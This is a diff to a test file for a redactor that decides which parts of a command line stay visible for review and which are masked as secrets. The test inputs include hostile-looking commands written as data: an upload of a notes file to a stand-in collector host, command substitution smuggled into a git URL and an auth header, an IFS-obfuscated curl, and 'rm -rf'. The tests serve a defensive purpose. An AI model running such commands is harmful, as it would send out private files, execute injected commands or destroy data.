@@ -19,7 +19,43 @@ describe('what somebody decides about', () => {
     'git clone https://me:$(id)@host/x',
     ': -----BEGIN PRIVATE KEY-----; rm -rf build',
     'curl -H "Authorization: Bearer $(cat notes)"',
+    'echo bearer\n./deploy-everything',
+    'curl -A bearer collector.example.com/upload -d @notes',
+    'curl https://sk-aaaaaaaaaaaaaaaaaaaa.com/',
+    'curl https://xoxb-1111111111.example/',
   ])('shows every command in %s', (line) => {
+    expect(redactor.textToJudge(line)).toBe(line)
+  })
+
+  it.each([
+    'rm -rf build',
+    'collector.example.com',
+    'collector.example.com/Upload1/aaaaaaaa',
+    '192.168.100.7',
+    '--upload-file=notes',
+    '../../elsewhere',
+    'curl$IFS-T$IFS.notes',
+  ])('is shown to have %s in it, though a variable that is called like a secret is that too', (value) => {
+    const chosen = new Redactor({}, { MY_TOKEN: value })
+    chosen.learn([value])
+    expect(chosen.textToJudge(`run ${value} now`)).toBe(`run ${value} now`)
+    expect(chosen.environment({ MY_TOKEN: value })).toEqual({ MY_TOKEN: value })
+    expect(chosen.text(`run ${value} now`)).toBe('run [redacted] now')
+  })
+
+  it.each([
+    'correct-horse-battery',
+    'p@ss#w0rd!',
+    'SG.aBcDeFgH1.iJkLmN0pQ_r',
+    'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
+  ])('does not have the secret %s of its variables', (value) => {
+    const chosen = new Redactor({}, { MY_TOKEN: value })
+    expect(chosen.textToJudge(`run ${value} now`)).toBe('run [redacted] now')
+    expect(chosen.environment({ MY_TOKEN: value })).toEqual({ MY_TOKEN: '[redacted]' })
+  })
+
+  it('is read in time that grows with it', () => {
+    const line = `${'sk-'.repeat(300_000)}.com`
     expect(redactor.textToJudge(line)).toBe(line)
   })
 
